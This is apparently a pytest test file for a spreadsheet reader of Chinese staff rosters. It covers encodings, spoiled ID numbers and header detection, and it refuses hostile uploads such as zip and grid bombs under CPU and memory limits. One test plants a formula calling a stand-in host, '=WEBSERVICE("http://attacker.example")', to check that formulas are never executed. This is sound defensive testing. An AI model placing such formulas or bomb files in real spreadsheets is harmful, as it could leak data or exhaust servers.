import asyncio
import io
import resource
import signal
import subprocess
import sys
import time
import zipfile
from collections.abc import Awaitable
from datetime import date, datetime
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from xlsxwriter import Workbook

from tests.core.hostile_files import HOSTILE, package, sheet, text_cell, with_sheet, workbook
from xuefen.core import spreadsheet_child, spreadsheets
from xuefen.core.errors import DomainError
from xuefen.core.spreadsheets import (
    MAX_BYTES,
    HeaderNotFound,
    Row,
    SpreadsheetTooLarge,
    SpreadsheetUnreadable,
    Table,
    WrongFileType,
    read_table,
)

PEOPLE = [["工号", "姓名", "身份证号"], ["T0001", "王芳", "11010519491231002X"], ["T0002", "买买提·艾力", ""]]


def cells(table: Table) -> list[list[str]]:
    return [list(table.header), *(list(row.cells) for row in table.rows)]


async def csv_table(text: str, encoding: str = "utf-8") -> list[list[str]]:
    return cells(await read_table(text.encode(encoding), "a.csv"))


async def test_a_workbook_is_read_to_text() -> None:
    table = await read_table(workbook(PEOPLE), "教师.xlsx")
    assert cells(table) == PEOPLE
    assert [row.number for row in table.rows] == [2, 3]


async def test_numbers_dates_and_truth_read_as_they_stand_in_the_sheet() -> None:
    rows = [
        ["a", "b", "c", "d", "e"],
        [13812345678, 7.2, 0.1 + 0.2, True, -5],
        [
            date(2014, 10, 25),
            datetime(2014, 10, 25, 9, 30),  # noqa: DTZ001 - a cell knows no zone
            0,
            1e14,
            " x ",
        ],
    ]
    data = workbook(rows, default_date_format="yyyy-mm-dd hh:mm")
    assert cells(await read_table(data, "a.xlsx"))[1:] == [
        ["13812345678", "7.2", "0.3", "TRUE", "-5"],
        ["2014-10-25", "2014-10-25 09:30:00", "0", "100000000000000", "x"],
    ]


async def test_an_id_number_typed_as_a_number_is_flagged_for_its_digits_are_gone() -> None:
    data = workbook(
        [
            ["姓名", "身份证号"],
            ["王芳", 430203199002280017],
            ["李明", "430203199002280017"],
            ["a", 10**15 - 1],
        ]
    )
    flagged = [sorted(row.lost_digits) for row in (await read_table(data, "a.xlsx")).rows]
    assert flagged == [[1], [], []]


async def test_an_id_number_that_excel_spoiled_in_a_csv_is_flagged_too() -> None:
    table = await read_table(b"name,id\nA,4.30203E+17\nB,430203199002280017\nC,1E5\n", "a.csv")
    assert [sorted(row.lost_digits) for row in table.rows] == [[1], [], []]


@pytest.mark.parametrize("guard", ['="{}"', "'{}", "\t{}", "`{}", " {}\t"])
async def test_what_keeps_excel_from_spoiling_a_number_is_taken_off(guard: str) -> None:
    number = "11010519491231002X"
    quoted = guard.format(number).replace('"', '""')
    assert (await csv_table(f'name,id\nA,"{quoted}"\n'))[1] == ["A", number]


@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "gb18030", "gbk", "utf-16"])
async def test_a_csv_is_read_in_the_encodings_that_excel_writes(encoding: str) -> None:
    assert await csv_table("工号,姓名\nT1,王芳\n", encoding) == [["工号", "姓名"], ["T1", "王芳"]]


async def test_rare_characters_of_names_survive() -> None:
    assert (await csv_table("姓名\n𠮷田䶮\n", "gb18030"))[1] == ["𠮷田䶮"]
    assert cells(await read_table(workbook([["姓名"], ["𠮷田䶮"]]), "a.xlsx"))[1] == ["𠮷田䶮"]


@pytest.mark.parametrize("delimiter", [",", ";", "\t"])
async def test_a_csv_is_split_where_its_writer_meant_it(delimiter: str) -> None:
    text = delimiter.join(["工号", "姓名"]) + "\r\n" + delimiter.join(["T1", '"a, b; ""c""\n二行"']) + "\r\n"
    assert await csv_table(text) == [["工号", "姓名"], ["T1", 'a, b; "c"\n二行']]


async def test_titles_above_the_header_are_passed_over_and_rows_keep_their_numbers() -> None:
    rows: list[list[object]] = [["某校教师名册"], [], ["工号", "姓名"], [], ["T1", "王芳"], ["T2"]]
    table = await read_table(workbook(rows), "a.xlsx", columns=["姓名", "工号"])
    assert table == Table(
        ("工号", "姓名"), (Row(5, ("T1", "王芳"), frozenset()), Row(6, ("T2", ""), frozenset()))
    )


async def test_a_table_that_starts_in_the_middle_keeps_its_row_numbers() -> None:
    middle = with_sheet(sheet("", "", text_cell("C3", "工号"), text_cell("C4", "T1")))
    table = await read_table(middle, "a.xlsx", columns=["工号"])
    assert table.header == ("", "", "工号")
    assert table.rows == (Row(4, ("", "", "T1"), frozenset()),)


async def test_a_header_is_known_in_spite_of_blanks_and_stars() -> None:
    table = await read_table(
        workbook([["名册"], ["姓　名", "工号*"], ["王芳", "T1"]]), "a.xlsx", columns=["姓名", "工号"]
    )
    assert table.header == ("姓　名", "工号*")


async def test_a_missing_header_says_which_columns_are_needed() -> None:
    with pytest.raises(HeaderNotFound) as refusal:
        await read_table(workbook([["名字"], ["王芳"]]), "a.xlsx", columns=["工号", "姓名"])
    assert refusal.value.detail == "表头应含有：工号、姓名"


async def test_cells_beside_the_header_are_cut_off() -> None:
    table = await read_table(b"a,b\n1,2,3,4.30203E+17\n", "a.csv")
    assert table.rows == (Row(2, ("1", "2"), frozenset()),)


async def test_the_first_visible_sheet_is_read() -> None:
    target = io.BytesIO()
    with Workbook(target, {"in_memory": True}) as book:
        hidden, shown = book.add_worksheet(), book.add_worksheet()
        hidden.hide()
        shown.activate()
        shown.set_first_sheet()
        hidden.write(0, 0, "no")
        shown.write(0, 0, "yes")
    assert (await read_table(target.getvalue(), "a.xlsx")).header == ("yes",)


async def test_formulas_give_their_values_and_macros_are_left_alone() -> None:
    target = io.BytesIO()
    with Workbook(target, {"in_memory": True}) as book:
        page = book.add_worksheet()
        page.write_row(0, 0, ["a", "b"])
        page.write_formula(1, 0, "=1+1", value=2)
        page.write_formula(1, 1, '=WEBSERVICE("http://attacker.example")', value="x")
    assert cells(await read_table(target.getvalue(), "a.xlsx"))[1] == ["2", "x"]


async def test_fifty_thousand_rows_are_a_real_table_and_are_read() -> None:
    text = "工号,姓名,手机\n" + "".join(f"T{n:05},王芳,13812345678\n" for n in range(49_999))
    table = await read_table(text.encode("gb18030"), "a.csv")
    assert len(table.rows) == 49_999
    data = workbook([["a", "b"], *([f"T{n}", n] for n in range(20_000))])
    assert len((await read_table(data, "a.xlsx")).rows) == 20_000


@settings(max_examples=25, deadline=None)
@given(st.lists(st.lists(st.text(max_size=10), min_size=1, max_size=3), min_size=1, max_size=4))
def test_no_csv_text_makes_an_unexpected_error(rows: list[list[str]]) -> None:
    data = "\n".join(",".join(row) for row in rows).encode("utf-8", "surrogatepass")
    answer = spreadsheet_child.read("csv", data)
    assert ("rows" in answer) != ("refused" in answer)


# --- hostile files ----------------------------------------------------------------------------------------


def test_there_are_enough_of_them() -> None:
    assert len(HOSTILE) >= 30


async def refused(upload: Awaitable[Table]) -> DomainError:
    with pytest.raises(
        (WrongFileType, SpreadsheetTooLarge, SpreadsheetUnreadable, HeaderNotFound)
    ) as refusal:
        await upload
    return refusal.value


@pytest.mark.parametrize("name", HOSTILE)
async def test_a_hostile_file_is_refused_in_time_with_words_that_help(name: str) -> None:
    filename, make = HOSTILE[name]
    data = make()
    assert len(data) < MAX_BYTES
    before = resource.getrusage(resource.RUSAGE_CHILDREN).ru_utime
    refusal = await refused(read_table(data, filename))
    spent = resource.getrusage(resource.RUSAGE_CHILDREN).ru_utime - before
    assert 400 <= refusal.status < 500
    assert any("\u4e00" <= char <= "\u9fff" for char in refusal.detail or refusal.title)
    assert spent < 2.5  # of processor time: the machine may be busy with other tests
    assert cells(await read_table(package(), "a.xlsx"))[1] == ["T1", "王芳"]


async def test_the_grid_bomb_kills_a_reader_without_limits_and_ours_survives_it() -> None:
    """The control: the reader itself does not refuse, it dies."""
    _, make = HOSTILE["grid bomb, whole sheet"]
    program = (
        "import io, sys, resource, python_calamine as c;"
        "resource.setrlimit(resource.RLIMIT_AS, (2**29, 2**29));"
        "c.CalamineWorkbook.from_filelike(io.BytesIO(sys.stdin.buffer.read())).get_sheet_by_index(0)"
    )
    process = await asyncio.create_subprocess_exec(
        sys.executable, "-c", program, stdin=asyncio.subprocess.PIPE, stderr=asyncio.subprocess.DEVNULL
    )
    await process.communicate(make())
    assert process.returncode is not None
    assert process.returncode < 0


def in_a_limited_process(work: str) -> subprocess.CompletedProcess[bytes]:
    program = f"""
import runpy
limit = runpy.run_path({spreadsheet_child.__file__!r})["_limit_this_process"]
limit.__globals__["CPU_SECONDS"] = 0.2
limit()
{work}
"""
    return subprocess.run([sys.executable, "-I", "-c", program], timeout=10, capture_output=True, check=False)


def test_a_reader_that_computes_for_ever_is_ended() -> None:
    assert in_a_limited_process("while True: pass").returncode == -signal.SIGPROF


def test_a_reader_that_takes_too_much_memory_gets_none() -> None:
    assert in_a_limited_process("bytes(100_000_000)").returncode == 0
    assert b"MemoryError" in in_a_limited_process("bytes(600_000_000)").stderr


def test_a_reader_writes_no_files(tmp_path: Path) -> None:
    file = tmp_path / "written"
    in_a_limited_process(f"open({str(file)!r}, 'w').write('x' * 100)")
    assert file.read_bytes() == b""


async def test_a_reader_that_waits_for_ever_is_ended(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(spreadsheets, "_WALL_SECONDS", 0.001)
    with pytest.raises(SpreadsheetTooLarge):
        await read_table(package(), "a.xlsx")


async def test_a_file_above_the_limit_is_refused_unread() -> None:
    with pytest.raises(SpreadsheetTooLarge, match="20 MB"):
        await read_table(b"x" * (MAX_BYTES + 1), "a.csv")


async def test_the_event_loop_goes_on_while_a_bomb_is_read() -> None:
    filename, make = HOSTILE["zip bomb of shared strings"]
    reading = asyncio.create_task(refused(read_table(make(), filename)))
    longest = 0.0
    while not reading.done():
        before = time.perf_counter()
        await asyncio.sleep(0.01)
        longest = max(longest, time.perf_counter() - before)
    assert longest < 0.5


async def test_where_a_wrong_character_stands_is_said() -> None:
    with pytest.raises(SpreadsheetUnreadable, match="第 2 行第 2 列"):
        await read_table(b"a,b\n1,\x1b\n", "a.csv")


async def test_the_child_knows_nothing_of_the_servers_environment(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("PYTHONSTARTUP", "/nonexistent")
    monkeypatch.setenv("PYTHONPATH", "/nonexistent")
    assert (await read_table(b"a\n1\n", "a.csv")).header == ("a",)


def test_members_of_a_package_are_counted_before_they_are_unpacked() -> None:
    with zipfile.ZipFile(io.BytesIO(HOSTILE["zip bomb that lies"][1]())) as lying:
        assert sum(member.file_size for member in lying.infolist()) < spreadsheet_child.MAX_UNPACKED_BYTES
